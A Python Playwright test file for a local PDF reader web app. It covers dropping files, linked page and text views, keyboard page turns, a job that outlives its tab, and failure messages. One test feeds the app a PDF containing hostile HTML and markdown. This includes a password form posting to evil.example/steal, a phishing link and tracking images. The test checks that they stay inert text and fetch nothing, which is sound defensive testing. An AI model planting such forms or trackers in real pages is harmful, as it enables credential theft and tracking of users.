"""The reader in a real browser (Debian Chromium through Playwright), as a new user would use it:
drop a PDF, run, read the page and its linked text on a laptop and a phone screen, turn pages
with the keys, download; close the tab mid-job and come back; see why an engine or a job failed.
Screenshots are saved in test-artifacts/."""

from __future__ import annotations

import base64
import io
import re
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pymupdf
import pytest

from benchmarks.bench_viewer import build_job
from tests.test_ui_client import KNOWN_TEXT, make_pdf, start_server

pytestmark = pytest.mark.browser

CHROMIUM = Path("/usr/bin/chromium")
REPO = Path(__file__).resolve().parents[1]
ARTIFACTS = REPO / "test-artifacts"
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--disable-quic",
]
SCREENS = {"laptop": (1366, 768), "phone": (390, 844)}

# Drops files on an element the way a file manager does: dragenter, dragover, drop with a DataTransfer.
DROP_FILES_JS = """
([selector, files]) => {
    const target = document.querySelector(selector);
    if (!target) throw new Error(`nothing matches ${selector}`);
    const transfer = new DataTransfer();
    for (const [name, type, data] of files) {
        const bytes = Uint8Array.from(atob(data), (c) => c.charCodeAt(0));
        transfer.items.add(new File([bytes], name, { type }));
    }
    for (const kind of ["dragenter", "dragover", "drop"]) {
        target.dispatchEvent(new DragEvent(kind, { bubbles: true, cancelable: true, dataTransfer: transfer }));
    }
}
"""

IN_VIEWPORT_JS = """
(selector) => {
    const box = document.querySelector(selector)?.getBoundingClientRect();
    if (!box || box.width === 0) return false;
    return box.top >= 0 && box.top < window.innerHeight - 40 && box.left >= 0 && box.left < window.innerWidth;
}
"""


@pytest.fixture(scope="module")
def studio(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[object, str, str]]:
    """A studio with the token on, as the launcher starts it; (server, url, id of a 10/100/300-block job)."""
    workspace = tmp_path_factory.mktemp("workspace")
    job_id = build_job(workspace)
    server, url = start_server(workspace, token=True)
    try:
        yield server, url, job_id
    finally:
        server.close()


@contextmanager
def chromium(*extra_args: str) -> Iterator[object]:
    """Debian's Chromium through Playwright, headless; the test is skipped where either is missing."""
    if not CHROMIUM.exists():
        pytest.skip(f"{CHROMIUM} is missing (apt-get install chromium)")
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as playwright:
        instance = playwright.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=[*CHROMIUM_ARGS, *extra_args]
        )
        try:
            yield instance
        finally:
            instance.close()


@pytest.fixture(scope="module")
def browser():
    with chromium() as instance:
        yield instance


def open_studio(browser, url: str, screen: str = "laptop", **options):
    from playwright.sync_api import expect

    expect.set_options(timeout=60_000)  # a loaded 2-core CI machine: generous, the speed test has its own bound
    width, height = SCREENS[screen]
    context = browser.new_context(viewport={"width": width, "height": height}, accept_downloads=True, **options)
    page = context.new_page()
    page.set_default_timeout(60_000)
    page.goto(url)
    page.locator("#run-button").wait_for()  # the drop zone may be folded away: a job is running
    return context, page


def open_sidebar(page) -> None:
    """Open the sidebar (drawn closed on a laptop and a phone: the page gets the room) to reach the
    history or the language switch, as a user does."""
    if not page.evaluate("() => document.querySelector('#sidebar, .sidebar')?.classList.contains('open')"):
        page.locator(".toggle-button").first.click()
    page.locator("#sidebar.open, .sidebar.open").first.wait_for()
    page.wait_for_timeout(300)  # its slide-in


def drop(page, *paths: Path, kind: str = "application/pdf") -> None:
    from playwright.sync_api import expect

    payload = [[p.name, kind, base64.b64encode(p.read_bytes()).decode("ascii")] for p in paths]
    page.locator("#dropzone .upload-container").wait_for()
    page.evaluate(DROP_FILES_JS, ["#dropzone .upload-container", payload])
    for path in paths:
        expect(page.locator("#dropzone").get_by_role("row", name=re.compile(re.escape(path.name)))).to_be_visible()


def screenshot(page, name: str) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"))


def scanned_pdf(path: Path, pages: int) -> Path:
    """A PDF of page images (no text layer): every page goes through Tesseract, a second or so each."""
    from PIL import Image, ImageDraw, ImageFont

    try:
        font = ImageFont.truetype("DejaVuSans.ttf", 40)
    except OSError:
        font = ImageFont.load_default(40)
    document = pymupdf.open()
    for number in range(1, pages + 1):
        image = Image.new("L", (1275, 1650), 255)
        draw = ImageDraw.Draw(image)
        for line in range(12):
            draw.text((120, 150 + line * 90), f"Scanned page {number}, line {line + 1} of the archive", font=font)
        buffer = io.BytesIO()
        image.save(buffer, format="PNG")
        page = document.new_page(width=612, height=792)
        page.insert_image(page.rect, stream=buffer.getvalue())
    document.save(path)
    return path


@pytest.mark.parametrize("screen", ["laptop", "phone"])
def test_after_run_the_page_and_its_linked_text_are_on_screen(browser, studio, tmp_path: Path, screen: str) -> None:
    from playwright.sync_api import expect

    _, url, _ = studio
    context, page = open_studio(browser, url, screen)
    if screen == "phone":  # the sidebar starts closed and does not cover the studio
        expect(page.locator("#sidebar")).not_to_be_in_viewport()
    pdf = make_pdf(tmp_path / f"rainfall-{screen}.pdf", ["Rainfall report", KNOWN_TEXT, "Porto stayed dry."])
    drop(page, pdf)
    page.locator("#run-button").click()
    expect(page.locator("#status")).to_contain_text("Done")
    expect(page.locator("#text-view")).to_contain_text(KNOWN_TEXT)
    page.wait_for_timeout(300)  # the scroll to the result
    assert page.evaluate(IN_VIEWPORT_JS, "#page-view .pv-stage img"), "the page image is not on screen after Run"
    assert page.evaluate(IN_VIEWPORT_JS, "#text-view .blk"), "the text is not on screen after Run"
    image = page.locator("#page-view .pv-stage img")
    assert image.evaluate("img => img.complete && img.naturalWidth > 0")

    # a box and its text are linked both ways
    box = page.locator("#page-view rect[data-b]").first
    index = box.get_attribute("data-b")
    box.hover()
    expect(page.locator(f"#text-view .blk.b-{index}")).to_have_class(re.compile(r"\bhl\b"))
    page.mouse.move(1, 1)
    page.locator(f"#text-view .blk.b-{index}").click()
    expect(page.locator(f"#page-view rect[data-b='{index}']")).to_have_class(re.compile(r"\bselected\b"))
    screenshot(page, f"reader-{screen}")

    # every control is reachable, and the downloads say what they give
    for name in ("Previous", "Next"):
        expect(page.get_by_role("button", name=re.compile(name))).to_be_visible()
    downloads = page.locator("#downloads")
    expect(downloads).to_contain_text("This document")
    expect(downloads).to_contain_text("Whole job")
    with page.expect_download() as download_info:
        downloads.get_by_role("link", name="Markdown").click()
    saved = tmp_path / download_info.value.suggested_filename
    download_info.value.save_as(saved)
    assert saved.suffix == ".md", (
        download_info.value.suggested_filename,
        download_info.value.url,
        saved.read_text()[:300],
    )
    assert KNOWN_TEXT in saved.read_text(encoding="utf-8")
    context.close()


def test_keys_and_thumbnails_turn_pages_and_a_300_block_page_is_quick(browser, studio) -> None:
    from playwright.sync_api import expect

    _, url, job_id = studio
    context, page = open_studio(browser, url)
    open_sidebar(page)
    page.locator("#history input").click()
    page.get_by_role("option").filter(has_text="bench").first.click()
    rects = page.locator("#page-view rect")
    expect(rects).to_have_count(10)
    page.mouse.click(2, 760)  # nothing focused that takes arrow keys
    page.keyboard.press("ArrowRight")
    expect(rects).to_have_count(100)
    started = time.monotonic()
    page.keyboard.press("ArrowRight")
    expect(rects).to_have_count(300)
    page.wait_for_function("() => document.querySelector('#page-view .pv-stage img')?.complete")
    expect(page.locator("#text-view .blk")).to_have_count(300)
    turn = time.monotonic() - started
    assert turn < 2.0, f"turning to a 300-block page took {turn:.2f} s"
    screenshot(page, "reader-300-blocks")
    page.keyboard.press("ArrowLeft")
    expect(rects).to_have_count(100)
    page.locator("#page-view [data-goto='0:1']").click()  # a thumbnail
    expect(rects).to_have_count(10)
    page.get_by_role("button", name=re.compile("Next")).click()
    expect(rects).to_have_count(100)
    context.close()


def test_a_job_outlives_its_tab_and_the_next_tab_attaches_to_it(browser, studio, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    server, url, _ = studio
    pages = 6
    pdf = scanned_pdf(tmp_path / "archive-scan.pdf", pages)
    context, page = open_studio(browser, url)
    drop(page, pdf)
    page.locator("#run-button").click()
    expect(page.locator("#status")).to_contain_text(re.compile(r"page [1-9]\d* of 6"), timeout=120_000)
    context.close()  # the user closes the tab mid-job

    background = server.blocks.studio.background
    [run] = [r for r in background.active() if r.job.inputs[0].name == pdf.name]
    assert run.running and run.pages_done < pages, "the job should still be running"

    context, page = open_studio(browser, url)
    status = page.locator("#status")
    expect(status).to_contain_text("Working", timeout=30_000)  # attached to the running job
    expect(page.locator("#page-view .pv-stage img")).to_be_visible(timeout=120_000)  # finished pages open now
    expect(status).to_contain_text("Done: 6 pages", timeout=180_000)
    assert not run.cancel.is_set()
    context.close()


def test_a_vision_engine_on_a_machine_without_cuda_is_unavailable_with_its_reason(browser, studio) -> None:
    from playwright.sync_api import expect

    _, url, _ = studio
    context, page = open_studio(browser, url)
    page.locator("#engine-select input").click()
    page.get_by_role("option", name=re.compile(r"dots\.ocr.*unavailable")).click()
    note = page.locator("#engine-note")
    expect(note).to_contain_text("unavailable")
    expect(note).to_contain_text("no CUDA GPU")
    expect(page.locator("#run-button")).to_be_disabled()
    screenshot(page, "engine-unavailable")
    context.close()


def test_a_failed_job_says_why_now_and_after_reopening(browser, studio, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    _, url, _ = studio
    broken = tmp_path / "minutes-broken.pdf"
    broken.write_bytes(b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntruncated here")
    context, page = open_studio(browser, url)
    drop(page, broken)
    page.locator("#run-button").click()
    status = page.locator("#status")
    expect(status).to_contain_text("Failed: 0 pages")
    expect(status).to_contain_text("minutes-broken.pdf")
    expect(status).to_contain_text("damaged")
    context.close()

    context, page = open_studio(browser, url)  # a new tab: the job is in the history, marked failed
    open_sidebar(page)
    page.locator("#history input").click()
    option = page.get_by_role("option").filter(has_text="minutes-broken").first
    expect(option).to_contain_text("failed")
    option.click()
    expect(page.locator("#status")).to_contain_text("damaged")
    screenshot(page, "failed-job")
    context.close()


def test_document_text_is_shown_inert_and_nothing_is_fetched_from_outside(browser, studio, tmp_path: Path) -> None:
    """A PDF's text (or a model's transcription) carrying a password form, links and remote images
    is shown as text: no form, no link, no image element, and no request leaves this computer."""
    from playwright.sync_api import expect

    _, url, _ = studio
    hostile = [
        '<form action="http://evil.example/steal"><input name="password" placeholder="Your password"></form>',
        '<a href="http://evil.example/phish">Click to verify your account</a>',
        '<img src="http://evil.example/pixel.png"> ![tracker](http://evil.example/md.png)',
        "[a markdown link](http://evil.example/md-link) and http://evil.example/bare",
        '<table><tr><td><a href="http://evil.example/cell">cell</a><img src="http://evil.example/t.png"></td></tr></table>',
    ]
    pdf = make_pdf(tmp_path / "invoice-hostile.pdf", hostile)
    outside: list[str] = []
    context, page = open_studio(browser, url)
    page.on("request", lambda request: outside.append(request.url) if "127.0.0.1" not in request.url else None)
    drop(page, pdf)
    page.locator("#run-button").click()
    expect(page.locator("#status")).to_contain_text("Done")
    text = page.locator("#text-view")
    expect(text).to_contain_text("Click to verify your account")  # shown, as text
    expect(text).to_contain_text("<form")
    for element in ("form", "input", "a[href]", "img", "iframe", "script"):
        assert text.locator(element).count() == 0, f"the text pane made a live <{element}> from document text"
    page.locator("#result-tabs").get_by_role("tab", name="Markdown").click()
    expect(page.locator("#markdown-raw")).to_contain_text("evil.example/steal")
    page.wait_for_timeout(500)
    assert not outside, f"viewing the page fetched {outside}"
    context.close()
